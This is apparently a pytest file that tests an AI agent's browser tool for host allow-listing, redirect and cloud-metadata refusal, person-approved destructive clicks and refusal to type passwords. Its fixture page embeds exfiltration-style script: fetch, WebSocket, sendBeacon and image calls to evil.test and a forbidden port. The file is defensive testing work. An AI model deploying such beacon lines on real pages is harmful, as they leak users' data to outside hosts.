"""A real Chromium on real pages: where it may go, and what it may press."""

import asyncio
import threading
from collections.abc import AsyncIterator, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from tool_servers import ALICE

from antiphon.agents.hands import ToolFailed
from antiphon.agents.tools.browser import PARTS, BrowserHand, Browsers
from antiphon.agents.tools.settings_browser import BrowserSpec
from antiphon.core.tool import Tool, ToolContext, ToolResult
from antiphon.net.egress import Egress
from rig.browser import chromium

pytestmark = [
    pytest.mark.skipif(chromium() is None, reason="Chromium is not installed: apt-get install chromium"),
    pytest.mark.asyncio(loop_scope="module"),
]
PAGE = """<html><title>Shop</title><body><h1>Pens</h1>
<img src="http://127.0.0.1:{other}/spy?a=1"><img src="http://evil.test/spy">
<script>
fetch("http://localhost:{other}/spy?a=2").catch(() => 0);
try {{ new WebSocket("ws://127.0.0.1:{other}/spy?a=3") }} catch (e) {{}}
navigator.sendBeacon("http://127.0.0.1:{other}/spy?a=4", "secret");
</script>
<a href="/next">More pens</a> <button onclick="fetch('/bought', {{method: 'POST'}})">Buy now</button>
<label>Quantity <input name="q"></label><label>Secret <input type="password" name="p"></label></body></html>"""


class Pages(ThreadingHTTPServer):
    """Serves one page, and notes what is asked."""

    daemon_threads = True

    def __init__(self, other: int = 0) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.other = other
        self.asked: list[str] = []
        self.port: int = self.server_address[1]


class _Handler(BaseHTTPRequestHandler):
    server: Pages

    def log_message(self, format: str, *args: Any) -> None:
        """Nothing."""

    def do_GET(self) -> None:
        self.server.asked.append(f"{self.command} {self.path}")
        body = b"<title>Next</title>More" if self.path == "/next" else PAGE.format(other=self.server.other).encode()
        if self.path == "/away":
            self.send_response(302)
            self.send_header("location", f"http://127.0.0.1:{self.server.other}/spy?a=5")
            body = b""
        else:
            self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:
        self.do_GET()


@pytest.fixture(scope="module")
def pages() -> Iterator[tuple[Pages, Pages]]:
    """One that may be visited, and one that may not."""
    with Pages() as other, Pages(other.port) as own:
        threads = [threading.Thread(target=one.serve_forever, args=(0.01,)) for one in (own, other)]
        for thread in threads:
            thread.start()
        yield own, other
        for one in (own, other):
            one.shutdown()
        for thread in threads:
            thread.join()


class Desk:
    def __init__(self, pages: tuple[Pages, Pages], folder: Path) -> None:
        self.own, self.other = pages
        self.base = f"http://127.0.0.1:{self.own.port}"
        spec = BrowserSpec(hosts=[f"127.0.0.1:{self.own.port}", "evil.test"], sessions=1)
        self.browsers = Browsers(spec, Egress)
        self._folder = folder
        self._hands = {
            part: BrowserHand(
                Tool(name=f"web__{part}", description=said, parameters=schema, **known), part, self.browsers
            )
            for part, (said, schema, known) in PARTS.items()
        }

    async def do(self, part: str, run: str = "r1", **arguments: Any) -> ToolResult:
        context = ToolContext(principal=ALICE, run=run, step="s", key="k", until_s=0.0, workspace=str(self._folder))
        return await self._hands[part].do(arguments, context)


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def desk(pages: tuple[Pages, Pages], tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Desk]:
    made = Desk(pages, tmp_path_factory.mktemp("run"))
    yield made
    await made.browsers.close()


async def test_nothing_of_a_page_goes_where_it_may_not(desk: Desk) -> None:
    found = await desk.do("open", url=desk.base + "/")
    assert found.data["title"] == "Shop"
    assert "Pens" in found.text
    names = {one["name"] for one in found.data["elements"]}
    assert names == {"More pens", "Buy now", "Quantity", "Secret"}
    again = await desk.do("open", url=desk.base + "/")
    said = found.text + again.text
    assert f"127.0.0.1:{desk.other.port} is not among the hosts" in said
    assert desk.other.asked == []


async def test_a_page_elsewhere_is_refused_and_so_is_the_way_round_by_a_redirect(desk: Desk) -> None:
    for url in (f"http://127.0.0.1:{desk.other.port}/", f"{desk.base}/away", "http://169.254.169.254/latest/meta-data"):
        with pytest.raises(ToolFailed) as refused:
            await desk.do("open", url=url)
        assert refused.value.code == "refused", url
    assert desk.other.asked == []


async def test_what_cant_be_undone_is_pressed_by_click_alone(desk: Desk) -> None:
    await desk.do("open", url=desk.base + "/")
    with pytest.raises(ToolFailed, match="which a person approves"):
        await desk.do("follow", name="Buy now")
    assert "POST /bought" not in desk.own.asked
    assert PARTS["click"][2]["destructive"]
    await desk.do("click", name="Buy now", why="the pens are wanted")
    while "POST /bought" not in desk.own.asked:
        await asyncio.sleep(0)
    followed = await desk.do("follow", name="More pens")
    while followed.data["title"] != "Next":
        followed = await desk.do("read")


async def test_fields_are_filled_but_passwords_are_not(desk: Desk) -> None:
    await desk.do("open", url=desk.base + "/")
    await desk.do("type", name="Quantity", text="12")
    page = next(iter(desk.browsers._sessions.values())).page  # noqa: SLF001 - what the field holds
    assert page is not None
    assert await page.input_value("[name=q]") == "12"
    with pytest.raises(ToolFailed, match="a person signs in"):
        await desk.do("type", name="Secret", text="hunter2")


async def test_a_picture_goes_into_the_runs_files_and_browsers_are_bounded(desk: Desk) -> None:
    await desk.do("open", url=desk.base + "/")
    await desk.do("screenshot", file="shop")
    (shot,) = list(desk._folder.glob("shop.png"))  # noqa: SLF001 - where it was put
    assert shot.read_bytes().startswith(b"\x89PNG")
    with pytest.raises(ToolFailed, match="all 1 browsers are in use"):
        await desk.do("read", run="r2")
